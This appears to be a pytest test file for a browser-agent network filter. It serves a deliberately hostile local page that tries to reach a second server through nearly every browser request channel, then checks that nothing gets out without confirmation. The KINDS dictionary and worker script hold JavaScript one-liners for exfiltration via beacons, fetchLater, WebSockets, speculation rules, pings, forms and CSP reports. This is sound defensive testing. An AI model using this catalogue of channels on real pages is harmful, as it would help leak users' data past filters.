"""A hostile site of our own in a real browser, with every kind of request: what its server sees is what got out.

The page is at an allowed host; it sends to its own server, and to another one, in all ways that a browser knows.
"""

import base64
import contextlib
import hashlib
import ssl
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from viewfinder.agent.browser import BrowserEnvironment, Chromium
from viewfinder.agent.browser.network_filter import Confirmation
from viewfinder.agent.environment import Target
from viewfinder.agent.policy import Policy
from viewfinder.outputs.actions import Action

KINDS = {  # kind of request: script; E is the other server, O the page's own
    "fetch": "fetch(E + '/fetch', {mode: 'no-cors'}); fetch('/own-fetch', {method: 'POST', body: 'x'})",
    "image": "new Image().src = E + '/image'",
    "beacon": "navigator.sendBeacon(E + '/beacon', 'x'); navigator.sendBeacon('/own-beacon', 'x')",
    "keepalive": "fetch('/own-keepalive', {method: 'POST', body: 'x', keepalive: true})",
    "deferred": "if (self.fetchLater) for (const u of [E + '/deferred', O + '/own-deferred'])"
    " fetchLater(u, {method: 'POST', body: 'x', activateAfter: 0})",
    "worker": "new Worker('/worker.js')",
    "shared worker": "if (self.SharedWorker) new SharedWorker('/worker.js?shared')",
    "service worker": "if (navigator.serviceWorker) navigator.serviceWorker.register('/worker.js?service')"
    ".catch(() => 0)",
    "prerender": "add('script', {type: 'speculationrules', textContent: JSON.stringify({prerender: [{source: 'list',"
    " urls: [E + '/prerender']}], prefetch: [{source: 'list', urls: [E + '/prefetch']}]})})",
    "popup": "open(E + '/popup')",
    "socket": "new WebSocket(E.replace('http', 'ws') + '/socket');"
    " new WebSocket(O.replace('http', 'ws') + '/own-socket')",
    "redirect": "new Image().src = '/away'; add('iframe', {src: '/away?frame'}); fetch('/away', {mode: 'no-cors'})",
    "preconnect": "add('link', {rel: 'preconnect', href: E}); add('link', {rel: 'prefetch', href: E + '/hint'});"
    " add('link', {rel: 'dns-prefetch', href: E})",
    "event source": "new EventSource(E + '/events')",
    "form": "const f = add('form', {method: 'post', action: '/own-form', target: add('iframe', {name: 'in'}).name});"
    " f.submit(); add('form', {method: 'post', action: E + '/form', target: 'in'}).submit()",
    "download": "add('a', {href: E + '/file', download: 'file'}).click()",
    "ping": "add('a', {href: '#here', ping: E + '/ping ' + O + '/own-ping'}).click()",
    "frame": "add('iframe', {src: E + '/frame'})",
    "report": "add('style', {textContent: '@import url(' + E + '/style)'});"
    " add('meta', {httpEquiv: 'Content-Security-Policy', content: 'report-uri ' + E})",
}
WORKER = """
self.onfetch = () => 0;
fetch(E + '/worker', {mode: 'no-cors'}).catch(() => 0);
fetch('/own-worker', {method: 'POST', body: 'x'}).catch(() => 0);
try { new WebSocket(E.replace('http', 'ws') + '/worker-socket') } catch {}
try { new WebSocket(O.replace('http', 'ws') + '/own-worker-socket') } catch {}
"""
PREFACE = """const add = (tag, values) => { const made = Object.assign(document.createElement(tag), values);
  document.documentElement.append(made); return made; };"""


class Server:
    """One site, and everything that reached it: connections, and requests as "METHOD path"."""

    def __init__(self, host: str, *, tls: bool = False) -> None:
        self.log: list[str] = []
        self.connections = 0
        self.pages: dict[str, tuple[int, dict[str, str], str]] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                site.connections += 1
                super().setup()

            def _answer(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                upgrade = " upgrade" if self.headers.get("Upgrade") == "websocket" else ""
                site.log.append(f"{self.command} {self.path}{upgrade}")
                if upgrade and self.path == "/keep":
                    self._keep()
                    return
                status, headers, body = site.pages.get(self.path.split("?")[0], (404, {}, ""))
                self.send_response(status)
                for name, value in {"Content-Type": "text/html", **headers, "Content-Length": str(len(body))}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body.encode())

            def _keep(self) -> None:
                """A WebSocket, until it ends."""
                key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
                head = "HTTP/1.1 101 x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                self.wfile.write(f"{head}Sec-WebSocket-Accept: {accept}\r\n\r\n".encode())
                with contextlib.suppress(OSError):
                    self.connection.recv(1)
                site.log.append("closed")

            do_GET = do_POST = do_HEAD = do_PUT = do_OPTIONS = _answer

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer((host, 0), Handler)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(Path(__file__).with_name("localhost.pem"))
            self.server.socket = context.wrap_socket(
                self.server.socket, server_side=True, do_handshake_on_connect=False
            )
        self.origin = f"http{'s' if tls else ''}://{host}:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def writes(self) -> list[str]:
        """What changes something, or opens a socket."""
        return [line for line in self.log if not line.startswith("GET") or "upgrade" in line]

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def sites(request: pytest.FixtureRequest) -> Iterator[tuple[Server, Server]]:
    """The page's own site, and another that the policy does not name; both with TLS where the test says so."""
    tls = getattr(request, "param", False)
    own, other = Server("127.0.0.1", tls=tls), Server("127.0.0.2", tls=tls)
    own.pages["/away"] = (302, {"Location": f"{other.origin}/redirected"}, "")
    names = f"const E = '{other.origin}', O = '{own.origin}';"
    own.pages["/worker.js"] = (200, {"Content-Type": "text/javascript"}, names + WORKER)
    own.pages["/button"] = (200, {}, "<button onclick=\"fetch('/pay',{method:'POST'})\">Pay")
    yield own, other
    own.close()
    other.close()


def write_page(own: Server, other: Server, scripts: list[str]) -> None:
    tries = "".join(f"try {{ {script} }} catch (e) {{}}\n" for script in scripts)
    body = (
        f"<!doctype html><script>const E = '{other.origin}', O = '{own.origin}'; {PREFACE}\n{tries}</script><p>Balance"
    )
    own.pages["/"] = (200, {}, body)


def visit(chromium: Chromium, own: Server, wait: float) -> list[str]:
    policy = Policy(domains=("127.0.0.1",))
    options = {"ignore_https_errors": True}
    environment = BrowserEnvironment(f"{own.origin}/", policy, chromium=chromium, size=(400, 300), options=options)
    try:
        time.sleep(wait)
        environment.act(Action("computer", "wait", time=0.1))
        return list(environment.guard.refused)
    finally:
        environment.close()  # what waits for the end of a page (beacons, deferred requests) is sent now
        time.sleep(wait)


@pytest.mark.parametrize("sites", [False, True], indirect=True, ids=["http", "https"])
def test_nothing_gets_out_of_a_page_that_tries_everything(chromium: Chromium, sites: tuple[Server, Server]) -> None:
    own, other = sites
    write_page(own, other, list(KINDS.values()))
    refused = visit(chromium, own, 1.0)
    assert "GET /" in own.log
    assert (other.log, other.connections) == ([], 0)
    assert own.writes() == []
    assert any("127.0.0.2" in note for note in refused)


def test_a_confirmation_ends_with_its_action(chromium: Chromium, sites: tuple[Server, Server]) -> None:
    own, other = sites
    later = "onclick=\"fetch('/pay',{method:'POST'}); setTimeout(() => fetch('/later',{method:'POST'}), 2500);"
    elsewhere = f"fetch('{other.origin}/pay',{{method:'POST',mode:'no-cors'}})\""
    own.pages["/"] = (200, {}, f"<button {later}{elsewhere} style='position:absolute;inset:0'>Read")
    environment = BrowserEnvironment(f"{own.origin}/", Policy(domains=("127.0.0.1",)), chromium=chromium, settle=1.0)
    try:
        press = Action("computer", "left_click", coordinate=environment.screen_place((200, 150)))
        environment.act(press)
        assert own.writes() == []
        environment.act(press, environment.target(press.coordinate), confirmed=True)
        time.sleep(3.0)
        assert own.writes() == ["POST /pay"]
        assert (other.log, other.connections) == ([], 0)
    finally:
        environment.close()


@pytest.mark.parametrize("sites", [False, True], indirect=True, ids=["ws", "wss"])
def test_a_worker_s_socket_needs_a_confirmation_and_ends_with_it(
    chromium: Chromium, sites: tuple[Server, Server]
) -> None:
    own, _ = sites
    address = f"{own.origin.replace('http', 'ws')}/keep"
    own.pages["/opens.js"] = (200, {"Content-Type": "text/javascript"}, f"onmessage = () => new WebSocket('{address}')")
    button = "<button onclick='worker.postMessage(1)' style='position:absolute;inset:0'>Read"
    own.pages["/"] = (200, {}, f"<script>worker = new Worker('/opens.js')</script>{button}")
    policy, options = Policy(domains=("127.0.0.1",)), {"ignore_https_errors": True}
    environment = BrowserEnvironment(f"{own.origin}/", policy, chromium=chromium, settle=1.0, options=options)
    try:
        press = Action("computer", "left_click", coordinate=environment.screen_place((200, 150)))
        environment.act(press)
        time.sleep(0.5)
        assert own.writes() == []
        environment.act(press, environment.target(press.coordinate), confirmed=True)
        deadline = time.monotonic() + 5
        while "closed" not in own.log and time.monotonic() < deadline:
            time.sleep(0.05)
        assert own.log[-2:] == ["GET /keep upgrade", "closed"]
    finally:
        environment.close()


@pytest.mark.parametrize(
    ("method", "url", "allowed"),
    [
        ("POST", "https://bank.test/pay?n=1", True),
        ("PUT", "https://bank.test/pay", False),
        ("POST", "https://bank.test/other", False),
        ("POST", "https://www.bank.test/pay", False),
        ("POST", "https://bank.test:8443/pay", False),
        ("SOCKET", "https://bank.test/pay", False),
    ],
)
def test_a_confirmed_form_is_bound_to_its_address(method: str, url: str, allowed: bool) -> None:
    form = Target("button", where="https://bank.test/", form="https://bank.test/pay", method="post", submits=True)
    assert Confirmation.of(form).covers(method, url) is allowed
    assert not replace(Confirmation.of(form), until=0.0).covers(method, url)


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS)
def test_no_kind_of_request_gets_out(chromium: Chromium, sites: tuple[Server, Server], kind: str) -> None:
    own, other = sites
    write_page(own, other, [KINDS[kind]])
    visit(chromium, own, 1.0)
    assert "GET /" in own.log
    assert (other.log, other.connections) == ([], 0)
    assert own.writes() == []
